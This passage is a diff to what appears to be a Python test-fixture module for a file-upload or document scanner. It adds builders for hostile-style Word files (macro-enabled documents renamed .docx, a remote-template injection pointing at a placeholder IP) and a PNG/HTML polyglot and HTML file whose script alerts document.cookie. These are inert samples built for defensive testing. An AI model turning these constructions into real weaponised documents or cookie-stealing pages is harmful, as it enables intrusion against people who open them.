@@ -207,3 +207,98 @@ def docx(body: bytes = b"<w:document/>") -> bytes:
         archive.writestr("[Content_Types].xml", "<Types/>")
         archive.writestr("word/document.xml", body)
     return buffer.getvalue()
+
+
+# --- Word files that act when opened, and a file that is two kinds at once -----------------------------------
+
+_DOCX_TYPES = (
+    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
+    '+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
+    'ContentType="{main}"/></Types>'
+)
+DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+_BODY = (
+    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
+    b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>\xe8\xaf\xb7\xe7\xa4\xba</w:t></w:r></w:p></w:body>'
+    b"</w:document>"
+)
+
+
+def _rels(*relationships: str) -> str:
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+        '2006/relationships">' + "".join(relationships) + "</Relationships>"
+    )
+
+
+def word_docx(*, main: str = DOCX_MAIN, parts: dict[str, bytes | str] | None = None) -> bytes:
+    """A Word document python-docx opens, with any extra parts."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", _DOCX_TYPES.format(main=main))
+        archive.writestr(
+            "_rels/.rels",
+            _rels(
+                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships/officeDocument" Target="word/document.xml"/>'
+            ),
+        )
+        archive.writestr("word/document.xml", _BODY)
+        for name, data in (parts or {}).items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def docx_with_macros() -> bytes:
+    """A macro-enabled document renamed .docx: its VBA project travels inside."""
+    return word_docx(
+        main=DOCM_MAIN,
+        parts={
+            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
+            "word/_rels/document.xml.rels": _rels(
+                '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
+                ' Target="vbaProject.bin"/>'
+            ),
+        },
+    )
+
+
+def docx_with_macros_declared_plain() -> bytes:
+    """The VBA part alone, the content types claiming a plain document."""
+    return word_docx(parts={"word/vbaProject.bin": bytes(512)})
+
+
+def docx_with_remote_template(url: str = "http://203.0.113.9/normal.dotm") -> bytes:
+    """A document whose settings attach a template fetched from elsewhere when Word opens it."""
+    return word_docx(
+        parts={
+            "word/settings.xml": (
+                '<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/'
+                'wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships"><w:attachedTemplate r:id="rId1"/></w:settings>'
+            ),
+            "word/_rels/settings.xml.rels": _rels(
+                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                f'relationships/attachedTemplate" Target="{url}" TargetMode="External"/>'
+            ),
+        }
+    )
+
+
+def docx_with_web_link() -> bytes:
+    """An ordinary document with a hyperlink to a website: an external relationship, but harmless."""
+    return word_docx(
+        parts={
+            "word/_rels/document.xml.rels": _rels(
+                '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships/hyperlink" Target="https://www.women.org.cn/" TargetMode="External"/>'
+            )
+        }
+    )
+
+
+# A PNG that is HTML too: a browser that guesses the type from the bytes after the image may run the script.
+PNG_HTML = PNG + b"<html><body><script>alert(document.cookie)</script></body></html>"
+HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
